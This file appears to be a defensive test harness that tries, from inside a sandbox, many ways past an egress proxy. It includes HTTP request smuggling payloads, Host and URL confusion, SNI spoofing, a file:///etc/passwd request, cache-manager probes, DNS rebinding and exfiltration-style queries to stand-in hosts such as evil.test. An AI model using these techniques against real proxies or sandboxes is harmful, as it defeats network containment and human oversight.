"""Ways out of the proxied sandbox, tried from inside, one after another. Each prints one JSON object: when it began, and
what it saw. What was seen proves little: the test's internet (world.py) says what arrived.

Kinds: attack; residual, which is known to get through; control, which must work. A silent one is a breach if anything at
all arrives in its time. What is seen is a breach by itself where it begins with LEAK.
"""
import base64
import concurrent.futures
import json
import os
import socket
import ssl
import struct
import time

from spellings import ADDRESSES, INWARD, LOOKALIKES

PROXY = ("sentinel-proxy", 3128)
EVIL = "198.51.100.66"
CALM = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CALM.check_hostname = False
CALM.verify_mode = ssl.CERT_NONE
tried = []


def add(family, name, work, kind="attack", silent=False):
    tried.append((family, name, work, kind, silent))


# ---- what they are made of ----

def dial(limit=1.5, at=PROXY):
    return socket.create_connection(at, timeout=limit)


def reply(stream, limit=1.5, head_only=False):
    """One answer, to its end."""
    stream.settimeout(limit)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            more = stream.recv(65536)
            if not more:
                return data
            data += more
        head, _, body = data.partition(b"\r\n\r\n")
        size = [int(line.split(b":")[1]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
        while size and not head_only and len(body) < size[0]:
            more = stream.recv(1 << 16)
            if not more:
                break
            body += more
        return head + b"\r\n\r\n" + body
    except TimeoutError:
        return data


def said(data):
    line = data.split(b"\r\n")[0].decode("latin-1")
    return " ".join(line.split()[:2]) or "nothing"


def raw(*parts, answers=1, limit=1.5):
    """Sends bytes to the sidecar, the parts a moment apart."""
    with dial(limit) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in parts:
            stream.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
            if len(parts) > 1:
                time.sleep(0.05)
        return ", ".join(said(reply(stream, limit)) for _ in range(answers))


def request(url, method="GET", host="listed.test", fields="", body=""):
    size = f"Content-Length: {len(body)}\r\n" if body else ""
    return f"{method} {url} HTTP/1.1\r\nHost: {host}\r\n{fields}{size}Connection: close\r\n\r\n{body}"


def get(url, *more, **settings):
    return lambda: raw(request(url, *more, **settings))


def tunnel(target, then=None, fields=""):
    """A CONNECT, and then something inside."""
    def work():
        with dial() as stream:
            stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{fields}\r\n".encode("utf-8"))
            first = said(reply(stream, head_only=True))
            if " 200" not in first or then is None:
                return first
            try:
                return f"{first}, {then(stream)}"
            except (OSError, ssl.SSLError) as error:
                return f"{first}, {type(error).__name__}"
    return work


def tls(name, path="/", host=None):
    """A handshake for a name, and a request inside."""
    def work(stream):
        stream.settimeout(2)
        inside = CALM.wrap_socket(stream, server_hostname=name)
        inside.sendall(request(path, host=host or name or "listed.test").encode())
        return said(reply(inside))
    return work


def hello(name, versions=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if versions:
        context.minimum_version, context.maximum_version = versions
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def in_records(message, size):
    """The same handshake message in records of a few bytes."""
    body = message[5:]
    pieces = [body[at:at + size] for at in range(0, len(body), size)]
    return [b"\x16\x03\x01" + struct.pack("!H", len(piece)) + piece for piece in pieces]


def with_names(names):
    """A ClientHello whose server_name has these names, as bytes."""
    entries = b"".join(b"\0" + struct.pack("!H", len(name)) + name for name in names)
    listing = struct.pack("!H", len(entries)) + entries
    extension = struct.pack("!HH", 0, len(listing)) + listing
    body = b"\x03\x03" + bytes(range(32)) + b"\0" + struct.pack("!HHH", 4, 0xC02F, 0x009C) + b"\x01\0"
    body += struct.pack("!H", len(extension)) + extension
    message = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def send(*parts, pause=0.0):
    """Bytes into an open tunnel."""
    def work(stream):
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in parts:
            stream.sendall(part)
            time.sleep(pause)
        stream.settimeout(1)
        try:
            return f"{len(stream.recv(4096))} bytes back"
        except TimeoutError:
            return "no answer"
    return work


# ---- attempts ----

def addresses():
    for text in ADDRESSES:
        add("addresses", f"GET {text}", lambda text=text: raw(
            f"GET http://{text}/ HTTP/1.1\r\nHost: {text}\r\nConnection: close\r\n\r\n".encode("utf-8")))
        target = text + ":443"
        add("addresses", f"CONNECT {text}", tunnel(target, tls("listed.test")))
    add("addresses", "GET of an address, Host of a listed name", get(f"http://{EVIL}/"))
    add("addresses", "origin form, Host of an address", get("/", host=EVIL))


def names():
    for text in LOOKALIKES:
        add("names", f"GET {text!r}", lambda text=text: raw(
            f"GET http://{text}/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n".encode("utf-8")))
        add("names", f"CONNECT {text!r}", tunnel(f"{text}:443", tls("listed.test")))
    add("names", "a listed name as user", get("http://listed.test@evil.test/"))
    add("names", "a listed name and a password", get("http://listed.test:80@evil.test/"))
    add("names", "a listed name after a backslash", get("http://evil.test\\.listed.test/"))
    add("names", "a listed name in the path", get("http://evil.test/.listed.test"))
    add("names", "a listed name after #", get("http://evil.test#.suffix.test/"))
    add("names", "a listed name after ?", get("http://evil.test?.suffix.test/"))
    add("names", "Host listed, URL not", get("http://evil.test/", host="listed.test"))
    add("names", "two Host fields", get("http://evil.test/", fields="Host: evil.test\r\n"))
    add("names", "URL listed, Host not", get("http://listed.test/", host="evil.test"))
    add("names", "URL listed, two Host fields", get("http://listed.test/", fields="Host: evil.test\r\n"))
    add("names", "origin form, Host not listed", get("/", host="evil.test"))
    add("names", "origin form, Host listed", get("/", host="listed.test"))
    add("names", "network-path form", get("//evil.test/", host="listed.test"))
    add("names", "no Host, HTTP/1.0", lambda: raw("GET http://evil.test/ HTTP/1.0\r\n\r\n"))
    add("names", "CONNECT, Host listed", lambda: raw(
        "CONNECT evil.test:443 HTTP/1.1\r\nHost: listed.test:443\r\n\r\n"))


def ports():
    for port in (0, 1, 21, 22, 25, 53, 81, 443, 1025, 3128, 3129, 8000, 8080, 65535, 65616, "0x50", "+80", " 81", "80:8080"):
        add("http ports", f"GET on {port}", get(f"http://listed.test:{port}/"))
    for port in (0, 21, 22, 25, 53, 80, 444, 853, 990, 3128, 3129, 8080, 8443, 65535, 65979, "0443x", "-443"):
        add("tunnel ports", f"CONNECT to {port}", tunnel(f"listed.test:{port}", tls("listed.test")))
    add("tunnel ports", "CONNECT without a port", tunnel("listed.test", tls("listed.test")))
    add("names", "CONNECT to a URL", tunnel("http://listed.test:8443/", tls("listed.test")))


def schemes():
    for url in ("ftp://listed.test/", "ftp://listed.test:80/", "ftp://u:p@listed.test/x", "whois://listed.test/x",
                "whois://listed.test:80/x", "gopher://listed.test/", "gopher://listed.test:80/", "wais://listed.test:80/",
                "urn:listed.test:x", "urn:ietf:rfc:1", "https://listed.test/", "https://listed.test:80/",
                "file:///etc/passwd", "ws://listed.test/", "ws://listed.test:80/", "icap://listed.test:80/",
                "coap://listed.test:80/", "HTTPS://listed.test:80/", "://listed.test/", "about:blank"):
        add("schemes", f"GET {url}", get(url), silent=True)


def manager():
    for url in ("cache_object://sentinel-proxy/menu", "cache_object://localhost/info", "cache_object://127.0.0.1/config",
                "cache_object://listed.test/info", "http://sentinel-proxy:3128/squid-internal-mgr/menu",
                "http://sentinel-proxy/squid-internal-mgr/info", "http://127.0.0.1:3128/squid-internal-mgr/info",
                "http://listed.test/squid-internal-mgr/info", "/squid-internal-mgr/menu",
                "http://sentinel-proxy:3128/squid-internal-periodic/store_digest",
                "http://sentinel-proxy:3128/squid-internal-static/icons/silk/bug.png",
                "http://sentinel-proxy:3128/squid-internal-dynamic/netdb"):
        def work(url=url):
            answer = raw(request(url, host="sentinel-proxy:3128"))
            return ("LEAK " if " 200" in answer else "") + answer
        add("manager", f"GET {url}", work)


def methods():
    for method in ("TRACE", "PURGE", "PROPFIND", "MKCOL", "LOCK", "SEARCH", "BREW", "QUERY", "LINK", "M-SEARCH",
                   "PRI", "SOURCE", "X" * 200, "%G"):
        add("methods", f"{method[:20]}", get("http://listed.test/breach", method))
    add("methods", "TRACE with Max-Forwards: 0", lambda: leak_of(
        request("http://listed.test/", "TRACE", fields="Max-Forwards: 0\r\n"), b"TRACE http"))
    add("methods", "OPTIONS with Max-Forwards: 0", lambda: leak_of(
        request("http://listed.test/", "OPTIONS", fields="Max-Forwards: 0\r\n"), b"squid/"))


def leak_of(data, *signs):
    """The whole answer, searched."""
    with dial() as stream:
        stream.sendall(data.encode())
        answer = reply(stream)
    found = [sign for sign in signs if sign.lower() in answer.lower()]
    return f"LEAK {found}" if found else said(answer)


def leaks():
    signs = (b"squid/", b"x-cache", b"via:", b"x-squid-error")
    add("leaks", "headers of an answer", lambda: leak_of(request("http://listed.test/"), *signs))
    add("leaks", "headers of a denial", lambda: leak_of(request("http://evil.test/"), *signs))
    add("leaks", "headers of a failure", lambda: leak_of("BAD\r\n\r\n", *signs))
    for field in ("Via: 1.1 inner", "X-Forwarded-For: 10.0.0.9", "Forwarded: for=10.0.0.9", "X-Forwarded-Host: evil.test",
                  "Proxy-Authorization: Basic " + base64.b64encode(b"u:p").decode(), "Proxy-Connection: keep-alive",
                  "Upgrade: websocket\r\nConnection: Upgrade", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings"):
        add("leaks", field.split("\r")[0], get("http://listed.test/", fields=field + "\r\n"))
    add("leaks", "a tunnel over an upgrade", lambda: raw(
        "GET http://listed.test/upgrade HTTP/1.1\r\nHost: listed.test\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n",
        "raw bytes that no rule sees\r\n\r\n"))


def smuggling():
    inner = "GET http://evil.test/breach HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    origin = "GET /breach HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    start = "POST http://listed.test/ HTTP/1.1\r\nHost: listed.test\r\n"
    for name, text in {
        "CL.TE": f"{start}Content-Length: {len(origin) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{origin}",
        "TE.CL": f"{start}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n{origin}\r\n0\r\n\r\n",
        "two lengths": f"{start}Content-Length: 0\r\nContent-Length: {len(origin)}\r\n\r\n{origin}",
        "two lengths in one": f"{start}Content-Length: 0, {len(origin)}\r\n\r\n{origin}",
        "a signed length": f"{start}Content-Length: +{len(origin)}\r\n\r\n{origin}",
        "a hexadecimal length": f"{start}Content-Length: 0x0\r\n\r\n{origin}",
        "a negative length": f"{start}Content-Length: -1\r\n\r\n{origin}",
        "an obscured coding": f"{start}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{origin}",
        "a coding twice": f"{start}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{origin}",
        "a coding after a tab": f"{start}Transfer-Encoding:\tchunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n{origin}",
        "a blank before the colon": f"{start}Content-Length : {len(origin)}\r\n\r\n{origin}",
        "a folded field": f"{start}X: a\r\n Content-Length: 0\r\n\r\n{origin}",
        "a folded Host": "GET http://listed.test/ HTTP/1.1\r\nHost:\r\n evil.test\r\n\r\n",
        "NUL in the target": "GET http://evil.test\0.listed.test/ HTTP/1.1\r\nHost: listed.test\r\n\r\n",
        "NUL in a field": f"{start}X: a\0Content-Length: 0\r\n\r\n{origin}",
        "bare LF": "GET http://evil.test/breach HTTP/1.1\nHost: listed.test\n\n",
        "bare LF in a field": f"{start}X: a\nHost: evil.test\r\nContent-Length: 0\r\n\r\n",
        "bare CR in a field": f"{start}X: a\rHost: evil.test\r\nContent-Length: 0\r\n\r\n",
        "a blank in the target": "GET http://listed.test/ HTTP/1.1 x http://evil.test/ HTTP/1.1\r\nHost: listed.test\r\n\r\n",
        "a second line in the target": "GET http://listed.test/%0d%0aHost:%20evil.test HTTP/1.1\r\nHost: listed.test\r\n\r\n",
        "a chunk size that overflows": f"{start}Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{origin}",
        "HTTP/0.9": "GET http://evil.test/breach\r\n\r\n",
        "HTTP/2.0": "GET http://evil.test/breach HTTP/2.0\r\nHost: listed.test\r\n\r\n",
        "a PROXY line": "PROXY TCP4 127.0.0.1 127.0.0.1 1 3129\r\n" + inner,
        "a SOCKS greeting": "\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x00\x50",
    }.items():
        add("smuggling", name, lambda text=text: raw(text, limit=1))
    denied = "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    allowed = "GET http://listed.test/ HTTP/1.1\r\nHost: listed.test\r\n\r\n"
    add("smuggling", "denied after allowed, one write", lambda: raw(allowed + inner, answers=2))
    add("smuggling", "denied after denied, one write", lambda: raw(denied + inner, answers=2))
    add("smuggling", "origin form after allowed", lambda: raw(allowed + origin, answers=2))
    add("smuggling", "after a denied CONNECT", lambda: raw(
        "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n" + inner, answers=2))
    add("smuggling", "CONNECT with a body", lambda: raw(
        f"CONNECT listed.test:443 HTTP/1.1\r\nHost: listed.test\r\nContent-Length: {len(inner)}\r\n\r\n{inner}", answers=2))
    add("smuggling", "Expect, then another", lambda: raw(
        f"{start}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n", origin, answers=2))


def inside_tunnels():
    bytes_ = {"HTTP": b"GET /breach HTTP/1.1\r\nHost: listed.test\r\n\r\n", "SSH": b"SSH-2.0-x\r\n", "zeros": b"\0" * 64,
              "SMTP": b"EHLO x\r\n", "SOCKS": b"\x05\x01\x00",
              "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "half a record": b"\x16\x03\x01\x02\x00\x01",
              "application data": b"\x17\x03\x03\x00\x10" + b"x" * 16,
              "a CONNECT": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
              "a record of another type": b"\x18\x03\x01\x00\x03\x01\x00\x00", "a newline before": b"\n" + hello("evil.test")}
    for name, data in bytes_.items():
        add("not TLS", name, tunnel("listed.test:443", send(data)), silent=True)
    add("not TLS", "with the CONNECT itself", lambda: raw(
        b"CONNECT listed.test:443 HTTP/1.1\r\nHost: listed.test\r\n\r\nGET /breach HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        answers=2))
    for name in ("evil.test", "listed.test.evil.test", "evil-listed.test", "xsuffix.test", "sentinel-proxy",
                 "LISTED.test.evil.test", "evil.test."):
        add("server names", f"TLS for {name}", tunnel("listed.test:443", tls(name)))
    add("server names", "through the suffix entry", tunnel("www.suffix.test:443", tls("evil.test")))
    for size in (1, 16, 64):
        add("server names", f"records of {size} bytes", tunnel("listed.test:443", send(*in_records(hello("evil.test"), size))))
    message = hello("evil.test")
    add("server names", "one byte at a time", tunnel("listed.test:443", send(
        *[message[at:at + 1] for at in range(0, 120)], message[120:], pause=0.002)))
    add("server names", "halves, a pause between", tunnel("listed.test:443", send(message[:60], message[60:], pause=0.3)))
    add("server names", "TLS 1.2 only", tunnel("listed.test:443", send(
        hello("evil.test", (ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_2)))))
    for name, listing in {"an address": [EVIL.encode()], "not, then listed": [b"evil.test", b"listed.test"],
                          "a NUL": [b"evil.test\0.listed.test"], "a dot": [b"."], "a wildcard": [b"*.suffix.test"],
                          "a blank": [b"listed.test evil.test"], "a colon": [b"evil.test:443"]}.items():
        add("server names", name, tunnel("listed.test:443", send(with_names(listing))))
    add("server names", "two hellos", tunnel("listed.test:443", send(hello("listed.test")[:40] + message)))
    for name, then in {"no server name": tls(None), "an empty server name": send(with_names([b""])),
                       "a second server name": send(with_names([b"listed.test", b"evil.test"])),
                       "a NUL in the server name": send(with_names([b"listed.test\0.evil.test"])),
                       "a hello of SSL 2": send(b"\x80\x2e\x01\x00\x02" + b"\0" * 44),
                       "an alert before the hello": send(b"\x15\x03\x01\x00\x02\x02\x28"),
                       "another Host inside TLS": tls("listed.test", host="evil.test")}.items():
        add("residual", name, tunnel("listed.test:443", then), kind="residual")


def inward():
    for name in INWARD:
        add("inward", f"GET {name}.suffix.test", get(f"http://{name}.suffix.test/", host=f"{name}.suffix.test"))
        add("inward", f"CONNECT {name}.suffix.test", tunnel(f"{name}.suffix.test:443", tls(f"{name}.suffix.test")))
    add("inward", "its own port by a name", get("http://loop.suffix.test:3129/"))
    add("inward", "its own port in a tunnel", tunnel("loop.suffix.test:3129"))

    def rebind(work):
        return lambda: ", ".join(work() for _ in range(3))
    add("inward", "first public, then private, GET", rebind(get("http://rebind-a.suffix.test/", host="rebind-a.suffix.test")))
    add("inward", "first public, then private, CONNECT", rebind(
        tunnel("rebind-b.suffix.test:443", tls("rebind-b.suffix.test"))))


def limits():
    """Entries with ports, methods and private addresses of their own."""
    def tried_at(name, port):
        add("limits", f"GET {name}:{port}", get(f"http://{name}:{port}/", host=f"{name}:{port}"))

    def told(target, name):
        add("limits", f"CONNECT {target}, TLS for {name}", tunnel(target, tls(name)))
    for name, port in (("ports.test", 80), ("ports.test", 8081), ("listed.test", 8081), ("www.suffix.test", 8080),
                       ("read.test", 8081), ("inner.test", 80), ("www.inner.test", 8080), ("evil.test", 8080),
                       ("sub.ports.test", 8080), ("sub.read.test", 80)):
        tried_at(name, port)
    for target in ("ports.test:443", "listed.test:8443", "read.test:443", "read.test:80", "read.test:8080",
                   "read.test:8443", "inner.test:443", "evil.test:8443", "sub.ports.test:8443"):
        told(target, target.split(":")[0])
    for target, name in (("ports.test:8443", "listed.test"), ("ports.test:8443", "evil.test"), ("ports.test:8443", "read.test"),
                         ("ports.test:8443", "www.inner.test"), ("listed.test:443", "ports.test"),
                         ("listed.test:443", "read.test"), ("listed.test:443", "www.inner.test"),
                         ("www.inner.test:8443", "ports.test"), ("www.inner.test:8443", "listed.test")):
        told(target, name)
    add("limits", "bytes that are no TLS", tunnel("ports.test:8443", send(b"SSH-2.0-x\r\n")), silent=True)
    for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
        for port in (80, 8080):
            add("limits", f"{method} read.test:{port}", get(f"http://read.test:{port}/", method, host="read.test", body="x"))
    for name in ("loop", "link", "loop6", "mapped", "alibaba", "aws6", "google6"):
        tried_at(f"{name}.inner.test", 8081)
        told(f"{name}.inner.test:8443", f"{name}.inner.test")
    for name in ("ten", "c192", "unique6"):
        tried_at(f"{name}.suffix.test", 8081)
        told(f"{name}.suffix.test:8443", f"{name}.suffix.test")

    def page(url, method="GET"):
        return get(url, method, host=url.split("/")[2])
    works("a port of its own", page("http://ports.test:8080/"), good)
    works("TLS at a port of its own", tunnel("ports.test:8443", tls("ports.test")), good)
    works("a method that is allowed", page("http://read.test/"), good)
    works("HEAD at another port", page("http://read.test:8080/", "HEAD"), good)
    works("a private address", page("http://www.inner.test:8081/"), good)
    works("a private IPv6 address", page("http://six.inner.test:8081/"), good)
    works("TLS at a private address", tunnel("www.inner.test:8443", tls("www.inner.test")), good)


def works(name, work, good):
    add("controls", name, lambda: "ok" if good(answer := work()) else f"failed: {answer}", kind="control")


def good(answer):
    return answer.endswith(" 200")


def last():
    """What came before proves nothing if the sidecar was gone."""
    works("GET, after all others", get("http://listed.test/"), good)


def controls():
    works("GET", get("http://listed.test/"), good)
    works("a suffix entry", get("http://www.suffix.test/", host="www.suffix.test"), good)
    works("deep below a suffix entry", get("http://a.b.suffix.test/", host="a.b.suffix.test"), good)
    works("the suffix itself", get("http://suffix.test/", host="suffix.test"), good)
    works("upper case", get("http://LISTED.Test/"), good)
    works("the port named", get("http://listed.test:80/"), good)
    works("HEAD", lambda: raw_head("HEAD"), good)
    for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
        works(method, get("http://listed.test/", method, body="x" * 1000), good)
    works("chunks", lambda: raw("POST http://listed.test/ HTTP/1.1\r\nHost: listed.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                                "3\r\nabc\r\n0\r\n\r\n"), good)
    works("TLS", tunnel("listed.test:443", tls("listed.test")), good)
    works("TLS, suffix entry", tunnel("www.suffix.test:443", tls("www.suffix.test")), good)
    works("TLS, upper case", tunnel("LISTED.TEST:443", tls("LISTED.TEST")), good)
    works("TLS, another listed name", tunnel("listed.test:443", tls("www.suffix.test")), good)
    works("several addresses", get("http://many.suffix.test/", host="many.suffix.test"), good)
    works("an IPv6 address", get("http://six.suffix.test/", host="six.suffix.test"), good)
    works("keep-alive", kept, lambda answer: answer == "5")
    works("a large download", large, lambda answer: answer == "20000000")
    works("16 at once", parallel, lambda answer: answer == "16")
    works("a tunnel that lasts", lasting, lambda answer: answer == "5")


def raw_head(method):
    with dial() as stream:
        stream.sendall(request("http://listed.test/", method).encode())
        return said(reply(stream, head_only=True))


def kept():
    with dial() as stream:
        done = 0
        for _ in range(5):
            stream.sendall(b"GET http://listed.test/ HTTP/1.1\r\nHost: listed.test\r\n\r\n")
            done += " 200" in said(reply(stream))
        return str(done)


def large():
    with dial(20) as stream:
        stream.sendall(request("http://listed.test/big").encode())
        return str(len(reply(stream, 20).partition(b"\r\n\r\n")[2]))


def parallel():
    work = tunnel("listed.test:443", tls("listed.test"))
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        return str(sum(answer.endswith(" 200") for answer in pool.map(lambda _: work(), range(16))))


def lasting():
    def talk(stream):
        stream.settimeout(5)
        inside, done = CALM.wrap_socket(stream, server_hostname="listed.test"), 0
        for _ in range(5):
            inside.sendall(b"GET / HTTP/1.1\r\nHost: listed.test\r\n\r\n")
            done += " 200" in said(reply(inside))
            time.sleep(0.3)
        return str(done)
    return tunnel("listed.test:443", talk)().rpartition(" ")[2]


def direct():
    def reach(address, port, limit=1.0):
        def work():
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            with socket.socket(family, socket.SOCK_STREAM) as stream:
                stream.settimeout(limit)
                stream.connect((address, port))
                return "LEAK connected"
        return work

    def throw(address, port, data=b"listed.test"):
        def work():
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            with socket.socket(family, socket.SOCK_DGRAM) as out:
                out.settimeout(0.3)
                out.sendto(data, (address, port))
                return f"LEAK answer {out.recv(512)[:20]!r}"
        return work

    def ask(name, kind=1, server="127.0.0.11"):
        labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
        return throw(server, 53, struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1))

    def ask_engine(name, kind=1):
        def work():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.settimeout(2)
                out.sendto(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
                           + b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
                           + b"\0" + struct.pack("!HH", kind, 1), ("127.0.0.11", 53))
                answer = out.recv(512)
                count = struct.unpack("!H", answer[6:8])[0]
                return f"LEAK {count} answers" if count else f"answer code {answer[3] & 15}"
        return work

    def ping(address):
        def work():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as out:
                out.settimeout(0.5)
                out.sendto(b"\x08\0\0\0\0\1\0\1", (address, 0))
                return f"LEAK answer {out.recv(512)[:8]!r}"
        return work

    for address in (EVIL, "198.51.100.10", os.environ["BYSTANDER"]):
        for port in (80, 443, 53):
            add("direct", f"TCP {address} {port}", reach(address, port))
        add("direct", f"UDP {address} 53", throw(address, 53))
        add("direct", f"DNS {address}", ask("secret.evil.test", server=address))
        add("direct", f"ICMP {address}", ping(address))
    add("direct", "TCP over IPv6", reach("2001:db8::66", 443))
    add("direct", "UDP over IPv6", throw("2001:db8::66", 53))
    add("direct", "all on the network over IPv6", throw("ff02::1%eth0", 53))
    add("direct", "broadcast", throw("255.255.255.255", 53))
    port = int(os.environ["HOST_PORT"])
    for address in os.environ["HOST_ADDRESSES"].split(","):
        add("host", f"TCP {address}", reach(address, port))
        add("host", f"UDP {address}", throw(address, port))
        add("host", f"ICMP {address}", ping(address))
    for name in ("evil.test", "listed.test", "x.suffix.test", "-".join(["secret"] * 8) + ".evil.test", "host.docker.internal"):
        add("resolver", name[:30], ask_engine(name))
    for kind, word in ((16, "TXT"), (12, "PTR"), (15, "MX"), (28, "AAAA"), (255, "ANY"), (65, "HTTPS")):
        add("resolver", f"{word} evil.test", ask_engine("evil.test", kind))

    def resolver_tcp():
        with socket.create_connection(("127.0.0.11", 53), timeout=2) as stream:
            question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x04evil\x04test\0\0\1\0\1"
            stream.sendall(struct.pack("!H", len(question)) + question)
            answer = stream.recv(512)
            count = int.from_bytes(answer[8:10], "big")
            return f"LEAK {count} answers" if count else "no answers"
    add("resolver", "over TCP", resolver_tcp)

    def raw_socket():
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        return "LEAK a raw socket"

    def packet_socket():
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
        return "LEAK a packet socket"
    add("direct", "a raw socket", raw_socket)
    add("direct", "a packet socket", packet_socket)
    sidecar = socket.gethostbyname(PROXY[0])
    for port in (22, 53, 80, 443, 3127, 3129, 3130, 3401, 4827):
        add("listeners", f"TCP {port} of the sidecar {sidecar}", reach(sidecar, port))
    for port in (53, 3130, 3401, 4827):
        add("listeners", f"UDP {port} of the sidecar", throw(sidecar, port))

    def peek():
        with dial(at=(sidecar, 3129)) as stream:
            stream.sendall(b"CONNECT listed.test:443 HTTP/1.1\r\nHost: listed.test\r\n\r\n")
            return "LEAK " + said(reply(stream, head_only=True))
    add("listeners", "CONNECT at the listener that peeks", peek, silent=True)


def main():
    for part in (controls, addresses, names, ports, schemes, manager, methods, leaks, smuggling, inside_tunnels, inward,
                 limits):
        part()
    if "RULES_ONLY" not in os.environ:
        direct()
    last()
    for family, name, work, kind, silent in tried:
        begin = time.time()
        try:
            answer = work()
        except (OSError, ssl.SSLError, UnicodeError) as error:
            answer = f"{type(error).__name__} {error}"
        print(json.dumps({"time": begin, "family": family, "name": name, "kind": kind, "silent": silent, "said": answer}),
              flush=True)
        time.sleep(0.04)
    time.sleep(1)
    print("done", flush=True)


main()
